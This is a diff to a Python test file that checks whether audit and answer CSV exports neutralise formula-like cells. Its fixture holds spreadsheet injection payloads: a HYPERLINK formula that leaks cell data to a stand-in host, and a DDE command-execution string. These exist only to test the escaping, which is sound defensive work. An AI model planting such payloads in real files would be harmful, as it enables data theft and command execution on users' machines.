@@ -23,8 +23,19 @@ from services.exchange.safe_cells import csv_bytes, is_formula_like, safe_text
 from services.ops.demo import seed_demo
 from store import audit
 from store.db import connect
+from store.models import Event
 
 ADMIN = Actor(username="ortala", role="admin")
+
+
+class _OldEvent(Event):
+    """A kind of event no service records any more: the trail still reads and exports it."""
+
+    name = "answer_saved"
+    note: str
+    value: int
+
+
 HOSTILE = [
     '=HYPERLINK("http://contoh.invalid/?d="&A1,"U")',
     "+1+cmd|' /C calc'!A0",
@@ -60,8 +71,7 @@ def con(seeded: Path, tmp_path: Path):
     c.execute("UPDATE indicator_notes SET note = ?", [HOSTILE[2]])
     c.execute("UPDATE evidence SET description = ?, file_name = ?", [HOSTILE[0], "=cmd.pdf"])
     c.execute("UPDATE verifications SET note = ?", [HOSTILE[3]])
-    audit.append(c, actor=HOSTILE[0], event="answer_saved", at=dt.datetime(2026, 1, 1),
-                 payload={"note": HOSTILE[1], "value": -3})  # fmt: skip
+    audit.append(c, actor=HOSTILE[0], event=_OldEvent(note=HOSTILE[1], value=-3), at=dt.datetime(2026, 1, 1))
     yield c
     c.close()
 
@@ -117,7 +127,7 @@ def test_answers_csv_neutralises_every_formula_like_cell_and_keeps_numbers(con):
 
 def test_audit_csv_neutralises_actor_and_payload(con):
     lines = browse(con, ADMIN, AuditFilter())
-    rows = _csv_rows(to_csv(lines))
+    rows = _csv_rows(to_csv(lines, event_label=str))
     _assert_neutral(rows)
     assert any(v == "'" + HOSTILE[0] for r in rows for v in r)
 
